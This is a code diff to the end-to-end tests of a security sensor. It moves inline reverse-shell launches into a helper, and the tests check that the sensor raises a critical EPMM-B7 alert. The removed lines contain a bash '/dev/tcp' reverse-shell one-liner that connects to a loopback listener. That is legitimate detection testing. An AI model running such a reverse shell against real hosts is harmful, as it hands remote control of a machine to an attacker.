@@ -10,7 +10,7 @@ use std::{
     time::Duration,
 };
 
-use sensor_e2e::{Agent, Scratch, alert_of, marker, num, tomcat_reenact};
+use sensor_e2e::{Agent, ReverseShell, Scratch, alert_of, marker, num, tomcat_reenact};
 use serde_json::Value;
 
 fn ancestry_pids(alert: &Value) -> Vec<u64> {
@@ -134,21 +134,12 @@ fn rewritemap_helper_subshell_runs_id() {
 #[test]
 fn bash_reverse_shell_to_a_loopback_listener() {
     let mut agent = Agent::start(&[]);
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let port = listener.local_addr().unwrap().port();
-    let mut shell = Command::new("/bin/bash")
-        .args(["-c", &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
-        .stdin(Stdio::null())
-        .stdout(Stdio::null())
-        .stderr(Stdio::null())
-        .spawn()
-        .unwrap();
-    let (mut conn, _) = listener.accept().unwrap();
-    conn.write_all(b"exit\n").unwrap();
-    let _ = shell.wait();
+    let shell = ReverseShell::start(&marker("b7"));
+    let port = shell.port;
+    let parent = shell.exit();
 
     let line = agent.wait_for("EPMM-B7", |l| {
-        alert_of(l, "EPMM-B7").is_some_and(|a| num(&a["process"]["ppid"]) == u64::from(shell.id()))
+        alert_of(l, "EPMM-B7").is_some_and(|a| num(&a["process"]["ppid"]) == u64::from(parent))
     });
     let alert = &line["alert"];
     assert_eq!(alert["severity"], "SEVERITY_CRITICAL");
@@ -326,22 +317,7 @@ fn benign_activity_raises_nothing() {
     assert!(admin.success());
     // Something that does alert, afterwards: once it is seen, the benign activity's
     // alerts (if any) would have been seen too.
-    let tag = marker("sentinel");
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let port = listener.local_addr().unwrap().port();
-    let mut shell = Command::new("/bin/bash")
-        .args([
-            "-c",
-            &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1 # {tag}"),
-        ])
-        .stdin(Stdio::null())
-        .stdout(Stdio::null())
-        .stderr(Stdio::null())
-        .spawn()
-        .unwrap();
-    let (mut conn, _) = listener.accept().unwrap();
-    conn.write_all(b"exit\n").unwrap();
-    let _ = shell.wait();
+    ReverseShell::start(&marker("sentinel")).exit();
     agent.wait_for("the sentinel alert", |l| alert_of(l, "EPMM-B7").is_some());
 
     // Alerts whose process or any ancestor carries the benign marker.
